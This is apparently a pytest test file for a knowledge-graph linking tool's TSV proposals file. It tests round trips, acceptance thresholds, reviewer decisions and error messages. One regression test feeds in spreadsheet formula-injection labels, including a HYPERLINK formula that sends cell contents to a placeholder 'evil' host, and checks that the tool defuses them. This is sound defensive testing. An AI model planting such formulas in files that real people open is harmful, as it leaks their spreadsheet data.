"""The reviewable proposals file: round trip, decisions kept, thresholds, clean errors."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.errors import LinkError
from kg.link.proposals import (
    COLUMNS,
    Proposal,
    accept_above,
    accepted,
    merge_decisions,
    read_proposals,
    write_proposals,
)


def row(id_: str, cand: str, score: float | None, decision: str = "", **kw) -> Proposal:
    return Proposal(id=id_, type="State", label=id_, candidate=cand, candidate_label="x",
                    score=score, method="label = Wikidata label", decision=decision,
                    endpoint="http://127.0.0.1/q", retrieved="2026-01-01", **kw)


def strip_lines(rows):
    return [r.__class__(**{**r.__dict__, "line": None}) for r in rows]


def test_round_trip_keeps_every_field(tmp_path):
    rows = [row("north-korea", "Q423", 1.0), row("north-korea", "Q18808", 0.675),
            row("ulleung-island", "", None), row("china", "Q148", 0.675, "accept")]
    path = write_proposals(tmp_path / "p.tsv", rows)
    back = read_proposals(path)
    assert strip_lines(back) == sorted(rows, key=lambda r: (r.id, r.candidate == "",
                                                            -(r.score or 0)))
    assert path.read_text(encoding="utf-8").splitlines()[0] == "\t".join(COLUMNS)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1))
def test_any_label_survives_the_tsv(tmp_path_factory, label):
    path = tmp_path_factory.mktemp("p") / "p.tsv"
    original = row("x", "Q1", 0.5)
    original = original.__class__(**{**original.__dict__, "label": label})
    write_proposals(path, [original])
    (back,) = read_proposals(path)
    assert back.label == label


@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil/?"&A1)', "+1+2", "-2+3", "@SUM(A1)",
                                   "'=already quoted", "''@twice", "\tTab first"])
def test_formula_cells_are_defused_and_read_back_as_they_were(tmp_path, label):
    """Regression: the TSV a reviewer opens in a spreadsheet ran labels as formulas."""
    original = row("x", "Q1", 0.5)
    original = original.__class__(**{**original.__dict__, "label": label,
                                     "candidate_label": label})
    path = write_proposals(tmp_path / "p.tsv", [original])
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        cells = list(csv.reader(fh, dialect="excel-tab"))[1]
    written = dict(zip(COLUMNS, cells, strict=True))
    assert written["label"] == written["candidate_label"] == "'" + label, written
    assert written["score"] == "0.500" and written["id"] == "x"
    (back,) = read_proposals(path)
    assert (back.label, back.candidate_label) == (label, label)


def test_accept_above_takes_only_a_unique_best_candidate():
    rows = [row("a", "Q1", 1.0), row("a", "Q2", 0.675),  # clear winner
            row("b", "Q3", 0.95), row("b", "Q4", 0.95),  # tie: left to a human
            row("c", "Q5", 0.85),  # below the threshold
            row("d", "Q6", 1.0, "reject"),  # a human said no
            row("e", "", None)]
    out, count = accept_above(rows, 0.9)
    assert count == 1
    assert [(r.id, r.candidate) for r in out if r.decision == "accept"] == [("a", "Q1")]


def test_decisions_and_hand_added_rows_survive_a_rerun():
    old = [row("a", "Q1", 1.0, "accept"), row("b", "Q3", 0.8, "reject"),
           row("b", "Q77", None, "accept"),  # a reviewer's own find
           row("gone", "Q9", 1.0, "accept")]  # entity no longer in the graph
    new = [row("a", "Q1", 1.0), row("b", "Q3", 0.8), row("c", "Q5", 0.9)]
    merged = {(r.id, r.candidate): r.decision for r in merge_decisions(new, old)}
    assert merged == {("a", "Q1"): "accept", ("b", "Q3"): "reject", ("b", "Q77"): "accept",
                      ("c", "Q5"): ""}, merged


def test_two_accepted_candidates_for_one_entity_is_an_error(tmp_path):
    path = write_proposals(tmp_path / "p.tsv", [row("a", "Q1", 1.0, "accept"),
                                                row("a", "Q2", 0.5, "accept")])
    with pytest.raises(LinkError) as info:
        accepted(read_proposals(path), source=str(path))
    assert f"{path}:3" in str(info.value) and "Q1, Q2" in str(info.value), info.value


@pytest.mark.parametrize(("cell", "value", "message"), [
    ("decision", "yes", "decision 'yes' must be accept, reject or empty"),
    ("candidate", "423", "candidate '423' is not a Wikidata item ID"),
    ("score", "high", "score 'high' is not a number"),
    ("score", "1.5", "score 1.5 is outside [0, 1]"),
    # regression: any text went into the links graph as the link's xsd:date
    ("retrieved", "yesterday", "retrieved 'yesterday' is not a date (YYYY-MM-DD)"),
    ("retrieved", "2026-02-30", "retrieved '2026-02-30' is not a date (YYYY-MM-DD)"),
])
def test_edit_mistakes_are_reported_with_file_and_line(tmp_path, cell, value, message):
    path = write_proposals(tmp_path / "p.tsv", [row("a", "Q1", 1.0), row("b", "Q2", 0.5)])
    lines = path.read_text(encoding="utf-8").splitlines()
    cells = lines[2].split("\t")
    cells[COLUMNS.index(cell)] = value
    lines[2] = "\t".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(LinkError) as info:
        read_proposals(path)
    assert str(info.value) == f"{path}:3: {message}" or str(info.value).startswith(
        f"{path}:3: {message}"), info.value


def test_accepting_a_row_without_candidate_is_an_error(tmp_path):
    path = tmp_path / "p.tsv"
    path.write_text("\t".join(COLUMNS) + "\n" + "a\tState\tA\t\t\t\tno match\taccept\t\t\n",
                    encoding="utf-8")
    with pytest.raises(LinkError, match=r"p.tsv:2: row of 'a' is accepted but names no"):
        read_proposals(path)


def test_a_proposals_file_saved_with_a_byte_order_mark_is_read(tmp_path):
    """Regression: the file saved back as "CSV UTF-8" by a spreadsheet or by Notepad starts
    with a BOM, and was refused: 'p.tsv:1: header must be id type label ...'."""
    path = write_proposals(tmp_path / "p.tsv", [row("china", "Q148", 0.675, "accept")])
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert [(r.id, r.candidate, r.decision) for r in read_proposals(path)] == [
        ("china", "Q148", "accept")]


def test_a_wrong_header_is_refused(tmp_path):
    path = tmp_path / "p.tsv"
    path.write_text("id,label,candidate\n", encoding="utf-8")
    with pytest.raises(LinkError, match=r"p.tsv:1: header must be id type label"):
        read_proposals(path)


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_a_proposals_file_that_is_no_regular_file_is_refused_unread(tmp_path, kind):
    """Regression: ``kg link --apply /dev/zero`` read forever (memory growing) and a FIFO
    hung the command; the file is read as annotation files are (kg.loaders.inputfile)."""
    import os

    path = tmp_path / "proposals.tsv"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path = Path("/dev/zero")
    what = {"fifo": "a FIFO (named pipe)", "device": "a character device",
            "folder": "a directory"}[kind]
    with pytest.raises(LinkError) as info:
        read_proposals(path)
    assert str(info.value) == (f"{path}: proposals file {path} is {what}, not a regular file: "
                               "refused")
